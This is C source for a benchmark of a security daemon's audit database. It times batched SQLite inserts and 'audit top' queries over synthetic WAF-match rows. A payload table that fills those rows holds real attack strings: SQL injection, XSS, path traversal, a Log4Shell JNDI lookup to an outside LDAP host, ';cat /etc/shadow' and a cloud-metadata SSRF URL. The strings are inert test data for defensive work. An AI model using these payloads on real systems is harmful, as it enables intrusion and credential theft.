// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * bench audit: audit rows/s written into the policy database, batched as
 * the daemon's audit writer batches them, against one row per transaction;
 * and the time of `enforcerctl audit top` over 1M rows. Target
 * (../shared/BENCHMARKS.md): >= 200k rows/s batched.
 *
 * The database is a real file in a temp dir under --dir (/var/tmp), opened
 * as the daemon's audit writer opens it (pdb_open_flags() with
 * PDB_OPEN_ONE_THREAD): WAL, synchronous=NORMAL, pages of 16 KiB, the
 * schema's one audit index (on time), the SHA-256 chain. Rows are shaped as the
 * verdict fills them for a match (enforcer/verdict/verdict.c): 50 rules
 * (skewed: a few rules make most rows), 1000 peers (a tenth IPv6), 20
 * executables (half in containers), URIs of 60..200 bytes from 4096
 * distinct ones, the excerpt and logdata that go with them, actions as
 * the verdict writes them ("deny:flow", "shadow:deny:flow", "count(2/5)").
 * Every row is made from its index alone, so every run writes the same.
 *
 * Phase 1, rows/s. Each series writes --rows rows (--single for one row
 * per transaction) a round into a fresh database, then the rows are
 * counted and the file removed (untimed); the order of the series rotates
 * from round to round, after one warm-up round of a tenth of the rows:
 * - batch512 (the daemon's ENF_AUDITW_BATCH), batch64, batch4096:
 *   pdb_audit_insert_many();
 * - single: pdb_audit_insert(), one transaction a row (the baseline);
 * - plain batch512: the same columns into the same schema through SQLite
 *   alone (no chain, no bounds, no hash column), one transaction per 512
 *   rows, the file made by pdb_open() and opened again without SQLite's
 *   per-call lock as the writer's: what enforcer's chaining and bounds
 *   cost on top of SQLite;
 * - plain noidx: the same without the audit table's indexes: what the
 *   indexes cost.
 * Time is CLOCK_MONOTONIC around the inserts, the rows built before it.
 * Beside it, the bytes the process read and wrote through system calls
 * for the inserts, a row (/proc/self/io rchar, wchar): exact, load or not,
 * and where the indexes' cost shows (every page a commit dirtied is
 * written whole to the WAL, and again at the checkpoint).
 *
 * Phase 2, --fill rows (1,000,000) spanning 7 days, by 512, into one
 * database kept open as the daemon keeps it; the rate of the first and
 * last 100k is printed too (the indexes grow).
 *
 * Phase 3, the SQL of `enforcerctl audit top` (pdb_audit_top_sql(), top
 * 20) through pdb_query_readonly() as enforcerctl runs it: --by rule over
 * every row, the last day (enforcerctl's default --since) and the last
 * hour, --by src and --by exe over every row, --queries times each,
 * interleaved. Every result is checked against what was written (keys,
 * events, enforced, shadow, msg, first, last, order); --by rule is also
 * run once for every group, whose events must sum to the rows. A wrong
 * result fails the benchmark.
 *
 * Phase 4, for information: pdb_audit_verify() over the filled database
 * (it must find the rows and no break), and the file's bytes per row, by
 * table and index (SQLite's dbstat).
 *
 * Exit 0, or 1 when something failed (a target missed is only reported).
 */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <time.h>
#include <unistd.h>

#include <linux/magic.h>
#include <sqlite3.h>

#include "bench.h"
#include "env.h"
#include "policydb/policydb.h"
#include "proc.h"

#define BATCH 512 /* the daemon's audit writer (ENF_AUDITW_BATCH) */
#define BATCH_MAX 4096 /* the largest batch measured */
#define TARGET_ROWS_S 200000.0
#define RULES 50
#define SOURCES 1000
#define EXES 20
#define URIS 4096
#define HOSTS 8
#define GROUPS (RULES + SOURCES + EXES)
#define NS_PER_SEC 1000000000LL
#define T_END_NS (1795392000LL * NS_PER_SEC) /* 2026-11-23T00:00:00Z */
#define SPAN_NS (7LL * 86400 * NS_PER_SEC)
#define HOUR_NS (3600LL * NS_PER_SEC)
#define TOP_LIMIT 20
#define RESULT_MAX 256
#define CHUNK 100000 /* rows of the fill's first and last rates */

/* ---- rows ----------------------------------------------------------------- */

/*
 * Strings the rows point into. Sizes as the verdict's: a URI is cut at
 * 4096 bytes there, here 60..200; an excerpt is "VAR=value".
 */
struct corpus {
	char saddr[SOURCES][48];
	char exe[EXES][64];
	char comm[EXES][16];
	char cgroup[EXES][192];
	char container[EXES][72]; /* "": none */
	char host[HOSTS][32];
	char msg[RULES][96];
	char uri[URIS][232];
	char excerpt[URIS][128];
	char logdata[URIS][192];
};

/* What a row was made of, for the expected results. */
struct pick {
	unsigned int rule, src, exe;
	bool enforced, shadow;
	int64_t t_ns;
};

static const char *const exe_paths[EXES] = {
	"/usr/sbin/nginx",
	"/usr/bin/node",
	"/usr/local/bin/envoy",
	"/usr/sbin/apache2",
	"/usr/bin/python3.11",
	"/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
	"/usr/local/bin/caddy",
	"/usr/sbin/haproxy",
	"/opt/gitea/bin/gitea",
	"/usr/sbin/php-fpm8.2",
	"/usr/local/bin/traefik",
	"/usr/bin/ruby3.1",
	"/opt/keycloak/bin/kc-server",
	"/usr/local/bin/grafana-server",
	"/usr/bin/dotnet",
	"/usr/local/bin/gunicorn",
	"/opt/mattermost/bin/mattermost",
	"/usr/sbin/lighttpd",
	"/usr/local/bin/backend-api",
	"/usr/local/bin/payment-gateway",
};

static const char *const hosts[HOSTS] = {
	"shop.example.com", "api.example.com",	    "www.example.org",
	"auth.example.net", "cdn.example.com",	    "admin.example.com",
	"git.example.org",  "payments.example.net",
};

static const char *const attacks[] = {
	"SQL Injection Attack Detected via libinjection",
	"XSS Attack Detected via libinjection",
	"Remote Command Execution: Unix Command Injection",
	"Path Traversal Attack (/../) or (/.../)",
	"PHP Injection Attack: High-Risk PHP Function Call Found",
	"Potential Remote Command Execution: Log4j / Log4shell",
	"Possible Remote File Inclusion (RFI) Attack",
	"Server-Side Request Forgery (SSRF): cloud metadata address",
	"HTTP Request Smuggling Attack",
	"Found User-Agent associated with security scanner",
};

/* A payload as the URI carries it and as the excerpt shows it. */
static const struct {
	const char *enc;
	const char *dec;
} payloads[] = {
	{ "1%27%20OR%20%271%27%3D%271", "1' OR '1'='1" },
	{ "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
	  "<script>alert(document.cookie)</script>" },
	{ "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "../../../../etc/passwd" },
	{ "%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D",
	  "${jndi:ldap://198.51.100.7:1389/a}" },
	{ "%3Bcat%20%2Fetc%2Fshadow", ";cat /etc/shadow" },
	{ "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
	  "http://169.254.169.254/latest/meta-data/" },
	{ "1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
	  "1 UNION SELECT username,password FROM users--" },
	{ "system(%27id%27)%3B", "system('id');" },
};

static const char *const paths[] = {
	"/api/v1/users/%u/orders",
	"/products/category/%u",
	"/search",
	"/index.php",
	"/wp-admin/admin-ajax.php",
	"/graphql",
	"/static/js/app.%x.js",
	"/cgi-bin/status",
	"/api/v2/accounts/%u/settings",
	"/login",
};

static const char *const params[] = { "q", "id", "file", "url", "name" };

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

static uint64_t mix(uint64_t x)
{
	x += 0x9e3779b97f4a7c15ull;
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ull;
	x = (x ^ (x >> 27)) * 0x94d049bb133111ebull;
	return x ^ (x >> 31);
}

/* 0..@n-1, low values more often (the square of a uniform draw). */
static unsigned int skewed(uint64_t h, unsigned int n)
{
	double u = (double)(h >> 11) / 9007199254740992.0;
	unsigned int k = (unsigned int)(u * u * n);

	return k < n ? k : n - 1;
}

static uint32_t rule_id_of(unsigned int r)
{
	return 920100 + 577 * r;
}

static void make_uri(struct corpus *k, unsigned int u)
{
	uint64_t h = mix(0xa0000000ull + u);
	size_t want = 60 + (size_t)(h % 141), n;
	char *b = k->uri[u];
	unsigned int p = (unsigned int)((h >> 8) % ARRAY_SIZE(payloads));
	const char *param = params[(h >> 16) % ARRAY_SIZE(params)];
	char path[64];

	snprintf(path, sizeof(path), paths[(h >> 24) % ARRAY_SIZE(paths)],
		 (unsigned int)((h >> 32) % 100000));
	n = (size_t)snprintf(b, sizeof(k->uri[u]), "%s?%s=%s", path, param,
			     payloads[p].enc);
	for (unsigned int j = 0; n < want; j++)
		n += (size_t)snprintf(b + n, sizeof(k->uri[u]) - n, "&k%u=%08x",
				      j, (unsigned int)mix(h + j));
	b[want] = '\0';
	snprintf(k->excerpt[u], sizeof(k->excerpt[u]), "ARGS:%s=%s", param,
		 payloads[p].dec);
	snprintf(k->logdata[u], sizeof(k->logdata[u]),
		 "Matched Data: %s found within ARGS:%s: %s", payloads[p].dec,
		 param, payloads[p].dec);
}

static void make_corpus(struct corpus *k)
{
	static const unsigned int oct1[] = { 45, 89, 103, 185, 203 };

	for (unsigned int s = 0; s < SOURCES; s++) {
		if (s % 10 == 9)
			snprintf(k->saddr[s], sizeof(k->saddr[s]),
				 "2001:db8:%x:%x::%x", (s * 13) & 0xffff,
				 (s * 7919) & 0xffff, s);
		else
			snprintf(k->saddr[s], sizeof(k->saddr[s]),
				 "%u.%u.%u.%u", oct1[s % 5], (s * 37) % 251,
				 s >> 8, s & 255);
	}
	for (unsigned int e = 0; e < EXES; e++) {
		const char *base = strrchr(exe_paths[e], '/') + 1;

		snprintf(k->exe[e], sizeof(k->exe[e]), "%s", exe_paths[e]);
		snprintf(k->comm[e], sizeof(k->comm[e]), "%.15s", base);
		if (e % 2) {
			uint64_t a = mix(e), b = mix(e + 100), c = mix(e + 200),
				 d = mix(e + 300);

			snprintf(k->container[e], sizeof(k->container[e]),
				 "%016llx%016llx%016llx%016llx",
				 (unsigned long long)a, (unsigned long long)b,
				 (unsigned long long)c, (unsigned long long)d);
			snprintf(k->cgroup[e], sizeof(k->cgroup[e]),
				 "/kubepods.slice/kubepods-burstable.slice/"
				 "kubepods-burstable-pod%08x.slice/"
				 "cri-containerd-%.64s.scope",
				 (unsigned int)a, k->container[e]);
		} else {
			k->container[e][0] = '\0';
			snprintf(k->cgroup[e], sizeof(k->cgroup[e]),
				 "/system.slice/%s.service", k->comm[e]);
		}
	}
	for (unsigned int h = 0; h < HOSTS; h++)
		snprintf(k->host[h], sizeof(k->host[h]), "%s", hosts[h]);
	for (unsigned int r = 0; r < RULES; r++)
		snprintf(k->msg[r], sizeof(k->msg[r]), "%s (%u)",
			 attacks[r % ARRAY_SIZE(attacks)], rule_id_of(r));
	for (unsigned int u = 0; u < URIS; u++)
		make_uri(k, u);
}

/*
 * Row @i of @n spanning the 7 days before T_END_NS, in time order. Rules
 * 8, 18, ... escalate (after:N/T: "count(K/5)" until the fifth), rules 9,
 * 19, ... are shadow rules, the others deny.
 */
static void make_row(const struct corpus *k, uint64_t i, uint64_t n,
		     struct pdb_audit *a, struct pick *p)
{
	static const char *const counts[] = { "count(1/5)", "count(2/5)",
					      "count(3/5)", "count(4/5)" };
	uint64_t h0 = mix(i * 8), h1 = mix(i * 8 + 1), h2 = mix(i * 8 + 2);
	uint64_t h3 = mix(i * 8 + 3);
	int64_t step = SPAN_NS / (int64_t)n;
	unsigned int roll = (unsigned int)(h3 % 100), e, s, u;
	const char *action, *cmdline = NULL;
	bool v6;

	p->rule = skewed(h0, RULES);
	p->src = s = skewed(h1, SOURCES);
	p->exe = e = skewed(h2, EXES);
	u = (unsigned int)((h3 >> 8) % URIS);
	p->t_ns = T_END_NS - SPAN_NS + (int64_t)i * step +
		  (step > 1 ? (int64_t)((h3 >> 24) % (uint64_t)step) : 0);
	p->shadow = false;
	if (p->rule % 10 == 9) {
		action = "shadow:deny:flow";
		p->shadow = true;
	} else if (p->rule % 10 == 8) {
		action = roll < 80 ? counts[roll % 4] : "deny:src,flow";
	} else if (roll < 60) {
		action = "deny:flow";
	} else if (roll < 85) {
		action = "deny:src,flow";
	} else if (roll < 98) {
		action = "deny:flow,reset";
	} else {
		action = "deny:flow,kill";
		cmdline = "/usr/bin/python3 /opt/app/worker.py --queue default"
			  " --concurrency 8";
	}
	p->enforced = !strncmp(action, "deny:", 5);
	v6 = strchr(k->saddr[s], ':') != NULL;
	*a = (struct pdb_audit){
		.time_ns = p->t_ns,
		.event = "match",
		.rule_id = rule_id_of(p->rule),
		.msg = k->msg[p->rule],
		.severity = (int)(p->rule % 5),
		.action = action,
		.pid = 2000 + e * 97 + (unsigned int)(h0 >> 56) % 8,
		.tgid = 2000 + e * 97,
		.uid = e < 10 ? 33 : 1000 + e,
		.exe = k->exe[e],
		.comm = k->comm[e],
		.cgroup_id = 4242 + e,
		.proto = "tcp",
		.saddr = k->saddr[s],
		.sport = (uint16_t)(1024 + (h1 >> 40) % 64512),
		.daddr = v6 ? "2001:db8::10" : "192.0.2.10",
		.dport = e % 2 ? 443 : 8443,
		.tls_lib = e % 4 == 3 ? "gnutls" : "openssl",
		.direction = e >= 18 ? "outbound" : "inbound",
		.method = roll < 70 ? "GET" :
			  roll < 95 ? "POST" :
				      "PUT",
		.host = k->host[e % HOSTS],
		.uri = k->uri[u],
		.excerpt = k->excerpt[u],
		.cgroup = k->cgroup[e],
		.container = k->container[e][0] ? k->container[e] : NULL,
		.sock_cookie = i + 1,
		.logdata = k->logdata[u],
		.cmdline = cmdline,
		.latency_ns = 150000 + (h2 >> 40) % 750000,
		.point = p->enforced ? "host" : NULL,
		.shadow = p->shadow,
	};
}

/* "YYYY-MM-DDTHH:MM:SS.mmmZ", as the column "time" holds it. */
static void format_time(int64_t t_ns, char *buf, size_t len)
{
	time_t sec = (time_t)(t_ns / NS_PER_SEC);
	struct tm tm;
	char day[24];

	gmtime_r(&sec, &tm);
	strftime(day, sizeof(day), "%Y-%m-%dT%H:%M:%S", &tm);
	snprintf(buf, len, "%s.%03dZ", day,
		 (int)((t_ns % NS_PER_SEC) / 1000000));
}

/* ---- context -------------------------------------------------------------- */

enum how {
	HOW_MANY, /* pdb_audit_insert_many() */
	HOW_ONE, /* pdb_audit_insert() */
	HOW_PLAIN, /* SQLite alone, the schema's indexes */
	HOW_PLAIN_NOIDX, /* SQLite alone, no index on audit */
};

enum series_id {
	SR_B512 = 0,
	SR_B64,
	SR_B4096,
	SR_ONE,
	SR_PLAIN,
	SR_NOIDX,
	SR_COUNT,
};

struct series {
	const char *name;
	const char *call;
	enum how how;
	size_t batch;
};

static const struct series series[SR_COUNT] = {
	[SR_B512] = { "batch512", "pdb_audit_insert_many", HOW_MANY, BATCH },
	[SR_B64] = { "batch64", "pdb_audit_insert_many", HOW_MANY, 64 },
	[SR_B4096] = { "batch4096", "pdb_audit_insert_many", HOW_MANY,
		       BATCH_MAX },
	[SR_ONE] = { "single", "pdb_audit_insert", HOW_ONE, 1 },
	[SR_PLAIN] = { "plain batch512", "sqlite3 INSERT", HOW_PLAIN, BATCH },
	[SR_NOIDX] = { "plain noidx", "sqlite3 INSERT, no index",
		       HOW_PLAIN_NOIDX, BATCH },
};

enum query_id {
	Q_RULE = 0,
	Q_RULE_DAY,
	Q_RULE_HOUR,
	Q_SRC,
	Q_EXE,
	Q_COUNT,
};

/* Windows: every row, the last day (enforcerctl's default), the last hour. */
enum window {
	W_ALL = 0,
	W_DAY,
	W_HOUR,
	W_COUNT,
};

static const int64_t window_ns[W_COUNT] = { 0, 24 * HOUR_NS, HOUR_NS };

static const struct {
	const char *name;
	const char *by;
	enum window w;
} queries[Q_COUNT] = {
	[Q_RULE] = { "--by rule --since all", "rule", W_ALL },
	[Q_RULE_DAY] = { "--by rule (since 1d)", "rule", W_DAY },
	[Q_RULE_HOUR] = { "--by rule --since 1h", "rule", W_HOUR },
	[Q_SRC] = { "--by src --since all", "src", W_ALL },
	[Q_EXE] = { "--by exe --since all", "exe", W_ALL },
};

struct opts {
	unsigned long rows;
	unsigned long single;
	unsigned long rounds;
	unsigned long fill;
	unsigned long queries;
	const char *dir;
	bool keep;
};

/* A group's expected row of `audit top`. */
struct expect {
	uint64_t events, enforced, shadow;
	int64_t first_ns, last_ns;
};

/* A row of `audit top` as pdb_query_readonly() handed it over. */
struct top_row {
	char key[80];
	uint64_t events, enforced, shadow;
	char msg[112];
	bool msg_null;
	char first[32], last[32];
};

struct top_res {
	struct top_row row[RESULT_MAX];
	size_t n;
	bool names_ok;
	bool overflow;
};

struct ctx {
	struct opts o;
	struct corpus *k;
	char dir[PATH_MAX - 64];
	char path[PATH_MAX]; /* phase 1's database */
	char fill_path[PATH_MAX];
	struct pdb_audit *rows; /* phase 1's rows */
	int64_t ids[BATCH_MAX]; /* a batch's, as the writer takes them */
	uint8_t hashes[BATCH_MAX][PDB_AUDIT_HASH_LEN];
	struct pick *picks;
	double rate[SR_COUNT][BENCH_MAX_SAMPLES]; /* rows/s, per round */
	double rd[SR_COUNT][BENCH_MAX_SAMPLES]; /* bytes read a row */
	double wr[SR_COUNT][BENCH_MAX_SAMPLES]; /* bytes written a row */
	/* phase 2 */
	struct pdb *fill_db;
	double fill_rate, fill_first, fill_last;
	struct expect exp[W_COUNT][GROUPS];
	/* phase 3 */
	struct top_res res;
	double q_ms[Q_COUNT][BENCH_MAX_SAMPLES];
	/* phase 4 */
	double verify_s;
	int64_t verify_rows;
	off_t db_bytes;
};

/* ---- files ---------------------------------------------------------------- */

static void rm_db(const char *path)
{
	char p[PATH_MAX + 8];

	unlink(path);
	snprintf(p, sizeof(p), "%s-wal", path);
	unlink(p);
	snprintf(p, sizeof(p), "%s-shm", path);
	unlink(p);
}

static int make_dir(struct ctx *c)
{
	struct statfs sfs;
	int err;

	if (strlen(c->o.dir) + sizeof("/enf-bench-audit.XXXXXX") >
	    sizeof(c->dir)) {
		fprintf(stderr, "Error: --dir %s: too long\n", c->o.dir);
		return -ENAMETOOLONG;
	}
	snprintf(c->dir, sizeof(c->dir), "%s/enf-bench-audit.XXXXXX", c->o.dir);
	if (!mkdtemp(c->dir)) {
		err = -errno;
		fprintf(stderr, "Error: making a temp dir in %s: %s\n",
			c->o.dir, strerror(-err));
		c->dir[0] = '\0';
		return err;
	}
	snprintf(c->path, sizeof(c->path), "%s/round.db", c->dir);
	snprintf(c->fill_path, sizeof(c->fill_path), "%s/fill.db", c->dir);
	if (statfs(c->dir, &sfs) == 0 && sfs.f_type == TMPFS_MAGIC)
		printf("warning: %s is on tmpfs: no disk under the database\n",
		       c->dir);
	return 0;
}

/* ---- phase 1: rows/s ------------------------------------------------------ */

/*
 * Bytes this process passed to read and write system calls (/proc/self/io
 * rchar, wchar): the WAL's frames, the checkpoints' copies, the pages read
 * again. Exact, whatever the load.
 */
struct io_use {
	double rd;
	double wr;
};

static void io_now(struct io_use *u)
{
	FILE *f = fopen("/proc/self/io", "re");
	unsigned long long v;
	char line[128];

	*u = (struct io_use){};
	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "rchar: %llu", &v) == 1)
			u->rd = (double)v;
		else if (sscanf(line, "wchar: %llu", &v) == 1)
			u->wr = (double)v;
	}
	if (f)
		fclose(f);
}

/* @b - @a per row, into @a. */
static void io_per_row(struct io_use *a, const struct io_use *b, size_t n)
{
	a->rd = (b->rd - a->rd) / (double)n;
	a->wr = (b->wr - a->wr) / (double)n;
}

/* check_count()'s callback: the one value. */
static int count_cb(void *ctx, int ncols, const char *const *names,
		    const char *const *values)
{
	uint64_t *n = ctx;

	(void)names;
	if (values && ncols == 1 && values[0])
		*n = strtoull(values[0], NULL, 10);
	return 0;
}

/* The audit table of @path holds @want rows. */
static int check_count(const char *path, uint64_t want, const char *what)
{
	char err[PDB_ERR_LEN];
	uint64_t n = 0;
	int ret;

	ret = pdb_query_readonly(path, "SELECT count(*) FROM audit", 1,
				 count_cb, &n, NULL, err);
	if (ret < 0) {
		fprintf(stderr, "Error: %s: counting the rows: %s\n", what,
			err);
		return ret;
	}
	if (n != want) {
		fprintf(stderr,
			"Error: %s: %" PRIu64 " rows, not %" PRIu64 "\n", what,
			n, want);
		return -EIO;
	}
	return 0;
}

/*
 * @n rows through pdb_audit_insert_many() by @batch, taking their ids and
 * hashes as the audit writer does (for the exporter), or one a call.
 */
static int pdb_insert(struct ctx *c, struct pdb *db, size_t n, size_t batch,
		      bool one, char *err)
{
	const struct pdb_audit *rows = c->rows;

	for (size_t i = 0; i < n; i += batch) {
		size_t k = n - i < batch ? n - i : batch;
		int64_t id;
		int ret;

		if (proc_stop)
			return -EINTR;
		if (one) {
			id = pdb_audit_insert(db, &rows[i], err);
			if (id < 0)
				return (int)id;
			if (id != (int64_t)i + 1) {
				snprintf(err, PDB_ERR_LEN,
					 "row %zu got id %" PRId64, i, id);
				return -EIO;
			}
			continue;
		}
		ret = pdb_audit_insert_many(db, &rows[i], k, c->ids, c->hashes,
					    err);
		if (ret)
			return ret;
	}
	return 0;
}

static int pdb_round(struct ctx *c, const struct series *s, size_t n,
		     double *secs, struct io_use *io)
{
	struct io_use io1;
	char err[PDB_ERR_LEN] = "";
	struct pdb *db;
	double t0, t1;
	int ret;

	rm_db(c->path);
	ret = pdb_open_flags(c->path, PDB_OPEN_ONE_THREAD, &db, err);
	if (ret) {
		fprintf(stderr, "Error: %s: %s\n", s->name, err);
		return ret;
	}
	io_now(io);
	t0 = bench_now_ns(CLOCK_MONOTONIC);
	ret = pdb_insert(c, db, n, s->batch, s->how == HOW_ONE, err);
	t1 = bench_now_ns(CLOCK_MONOTONIC);
	io_now(&io1);
	io_per_row(io, &io1, n);
	if (ret && ret != -EINTR)
		fprintf(stderr, "Error: %s (%s): %s\n", s->name, s->call, err);
	else if (!ret)
		ret = check_count(c->path, n, s->name);
	pdb_close(db);
	rm_db(c->path);
	*secs = (t1 - t0) / 1e9;
	return ret;
}

/*
 * The plain baseline: the columns pdb_audit_insert_many() writes but the
 * hash, bound as they are (no bound checked, no UTF-8 cut), the id left
 * to SQLite, the time text formatted the same way.
 */
#define PLAIN_COLS                                                         \
	"time_ns, time, event, rule_id, msg, severity, action, pid, tgid," \
	" uid, exe, comm, cgroup_id, proto, saddr, sport, daddr, dport,"   \
	" tls_lib, direction, method, host, uri, excerpt, cgroup,"         \
	" container, sock_cookie, logdata, cmdline, latency_ns, point,"    \
	" shadow"

static void plain_text(sqlite3_stmt *st, int *i, const char *s)
{
	if (s)
		sqlite3_bind_text(st, ++*i, s, -1, SQLITE_STATIC);
	else
		sqlite3_bind_null(st, ++*i);
}

static void plain_int(sqlite3_stmt *st, int *i, int64_t v, bool present)
{
	if (present)
		sqlite3_bind_int64(st, ++*i, v);
	else
		sqlite3_bind_null(st, ++*i);
}

static int plain_row(sqlite3_stmt *st, const struct pdb_audit *a)
{
	char when[32];
	int i = 0, rc;

	format_time(a->time_ns, when, sizeof(when));
	plain_int(st, &i, a->time_ns, true);
	plain_text(st, &i, when);
	plain_text(st, &i, a->event);
	plain_int(st, &i, a->rule_id, a->rule_id != 0);
	plain_text(st, &i, a->msg);
	plain_int(st, &i, a->severity, a->severity >= 0);
	plain_text(st, &i, a->action);
	plain_int(st, &i, a->pid, true);
	plain_int(st, &i, a->tgid, true);
	plain_int(st, &i, a->uid, true);
	plain_text(st, &i, a->exe);
	plain_text(st, &i, a->comm);
	plain_int(st, &i, (int64_t)a->cgroup_id, true);
	plain_text(st, &i, a->proto);
	plain_text(st, &i, a->saddr);
	plain_int(st, &i, a->sport, true);
	plain_text(st, &i, a->daddr);
	plain_int(st, &i, a->dport, true);
	plain_text(st, &i, a->tls_lib);
	plain_text(st, &i, a->direction);
	plain_text(st, &i, a->method);
	plain_text(st, &i, a->host);
	plain_text(st, &i, a->uri);
	plain_text(st, &i, a->excerpt);
	plain_text(st, &i, a->cgroup);
	plain_text(st, &i, a->container);
	plain_int(st, &i, (int64_t)a->sock_cookie, a->sock_cookie != 0);
	plain_text(st, &i, a->logdata);
	plain_text(st, &i, a->cmdline);
	plain_int(st, &i, (int64_t)a->latency_ns, a->latency_ns != 0);
	plain_text(st, &i, a->point);
	plain_int(st, &i, a->shadow, true);
	rc = sqlite3_step(st);
	sqlite3_reset(st);
	return rc == SQLITE_DONE ? 0 : -EIO;
}

static int plain_exec(sqlite3 *h, const char *sql)
{
	if (sqlite3_exec(h, sql, NULL, NULL, NULL) == SQLITE_OK)
		return 0;
	fprintf(stderr, "Error: plain: %s: %s\n", sql, sqlite3_errmsg(h));
	return -EIO;
}

static int plain_insert(sqlite3 *h, sqlite3_stmt *st,
			const struct pdb_audit *rows, size_t n, size_t batch)
{
	int ret = 0;

	for (size_t i = 0; i < n && !ret; i += batch) {
		size_t k = n - i < batch ? n - i : batch;

		if (proc_stop)
			return -EINTR;
		ret = plain_exec(h, "BEGIN IMMEDIATE");
		for (size_t j = i; j < i + k && !ret; j++) {
			ret = plain_row(st, &rows[j]);
			if (ret)
				fprintf(stderr, "Error: plain: row %zu: %s\n",
					j, sqlite3_errmsg(h));
		}
		if (!ret)
			ret = plain_exec(h, "COMMIT");
		else
			sqlite3_exec(h, "ROLLBACK", NULL, NULL, NULL);
	}
	return ret;
}

static int plain_round(struct ctx *c, const struct series *s, size_t n,
		       double *secs, struct io_use *io)
{
	static const char drop[] = "DROP INDEX IF EXISTS audit_time;"
				   " DROP INDEX IF EXISTS audit_rule_time;"
				   " DROP INDEX IF EXISTS audit_saddr_time;"
				   " DROP INDEX IF EXISTS audit_container_time;"
				   " DROP INDEX IF EXISTS audit_event_time";
	char err[PDB_ERR_LEN] = "";
	sqlite3_stmt *st = NULL;
	struct pdb *db;
	sqlite3 *h = NULL;
	struct io_use io1 = {};
	double t0 = 0, t1 = 0;
	int ret;

	/* The schema as enforcer makes it, then SQLite alone. */
	*io = (struct io_use){};
	rm_db(c->path);
	ret = pdb_open(c->path, &db, err);
	pdb_close(db);
	if (ret) {
		fprintf(stderr, "Error: %s: %s\n", s->name, err);
		return ret;
	}
	if (sqlite3_open_v2(c->path, &h,
			    SQLITE_OPEN_READWRITE | SQLITE_OPEN_NOMUTEX,
			    NULL) != SQLITE_OK) {
		fprintf(stderr, "Error: %s: opening %s: %s\n", s->name, c->path,
			h ? sqlite3_errmsg(h) : "out of memory");
		ret = -EIO;
		goto out_close;
	}
	ret = plain_exec(h, "PRAGMA journal_mode = WAL");
	if (!ret)
		ret = plain_exec(h, "PRAGMA synchronous = NORMAL");
	if (!ret && s->how == HOW_PLAIN_NOIDX)
		ret = plain_exec(h, drop);
	if (ret)
		goto out_close;
	if (sqlite3_prepare_v2(h,
			       "INSERT INTO audit (" PLAIN_COLS ") VALUES (?1,"
			       " ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11, ?12,"
			       " ?13, ?14, ?15, ?16, ?17, ?18, ?19, ?20, ?21,"
			       " ?22, ?23, ?24, ?25, ?26, ?27, ?28, ?29, ?30,"
			       " ?31, ?32)",
			       -1, &st, NULL) != SQLITE_OK) {
		fprintf(stderr, "Error: %s: %s\n", s->name, sqlite3_errmsg(h));
		ret = -EIO;
		goto out_close;
	}
	io_now(io);
	t0 = bench_now_ns(CLOCK_MONOTONIC);
	ret = plain_insert(h, st, c->rows, n, s->batch);
	t1 = bench_now_ns(CLOCK_MONOTONIC);
	io_now(&io1);
	io_per_row(io, &io1, n);
	if (!ret)
		ret = check_count(c->path, n, s->name);
out_close:
	sqlite3_finalize(st);
	sqlite3_close(h);
	rm_db(c->path);
	*secs = (t1 - t0) / 1e9;
	return ret;
}

static int run_one(struct ctx *c, enum series_id id, bool warm, double *rate,
		   struct io_use *io)
{
	const struct series *s = &series[id];
	size_t n = s->how == HOW_ONE ? c->o.single : c->o.rows;
	double secs = 0;
	int ret;

	if (warm)
		n = n / 10 ? n / 10 : 1;
	if (s->how == HOW_MANY || s->how == HOW_ONE)
		ret = pdb_round(c, s, n, &secs, io);
	else
		ret = plain_round(c, s, n, &secs, io);
	*rate = secs > 0 ? (double)n / secs : 0;
	return ret;
}

/* One warm-up round of a tenth, then --rounds, the order rotating. */
static int measure_rates(struct ctx *c)
{
	for (long r = -1; r < (long)c->o.rounds; r++) {
		for (int k = 0; k < SR_COUNT; k++) {
			enum series_id id = (enum series_id)(
				(k + (r < 0 ? 0 : r)) % SR_COUNT);
			struct io_use io;
			double rate;
			int ret = run_one(c, id, r < 0, &rate, &io);

			if (ret)
				return ret;
			if (r >= 0) {
				c->rate[id][r] = rate;
				c->rd[id][r] = io.rd;
				c->wr[id][r] = io.wr;
			}
		}
		if (r >= 0) {
			printf("round %ld/%lu: batch512 %.0f rows/s, single %.0f, plain batch512 %.0f\n",
			       r + 1, c->o.rounds, c->rate[SR_B512][r],
			       c->rate[SR_ONE][r], c->rate[SR_PLAIN][r]);
			fflush(stdout);
		}
	}
	return 0;
}

/* ---- phase 2: the fill ---------------------------------------------------- */

static void expect_add(struct expect *x, const struct pick *p)
{
	if (!x->events || p->t_ns < x->first_ns)
		x->first_ns = p->t_ns;
	if (!x->events || p->t_ns > x->last_ns)
		x->last_ns = p->t_ns;
	x->events++;
	x->enforced += p->enforced;
	x->shadow += p->shadow;
}

static void expect_row(struct ctx *c, const struct pick *p)
{
	for (int w = 0; w < W_COUNT; w++) {
		if (w != W_ALL && p->t_ns < T_END_NS - window_ns[w])
			continue;
		expect_add(&c->exp[w][p->rule], p);
		expect_add(&c->exp[w][RULES + p->src], p);
		expect_add(&c->exp[w][RULES + SOURCES + p->exe], p);
	}
}

static int fill(struct ctx *c)
{
	struct pdb_audit *rows = c->rows; /* BATCH of phase 1's, reused */
	struct pick *picks = c->picks;
	size_t n = c->o.fill, last_from = n > CHUNK ? n - CHUNK : 0;
	double spent = 0, first = 0, last = 0;
	char err[PDB_ERR_LEN] = "";
	int ret;

	rm_db(c->fill_path);
	ret = pdb_open_flags(c->fill_path, PDB_OPEN_ONE_THREAD, &c->fill_db,
			     err);
	if (ret) {
		fprintf(stderr, "Error: fill: %s\n", err);
		return ret;
	}
	for (size_t i = 0; i < n; i += BATCH) {
		size_t k = n - i < BATCH ? n - i : BATCH;
		double t0, t1;

		if (proc_stop)
			return -EINTR;
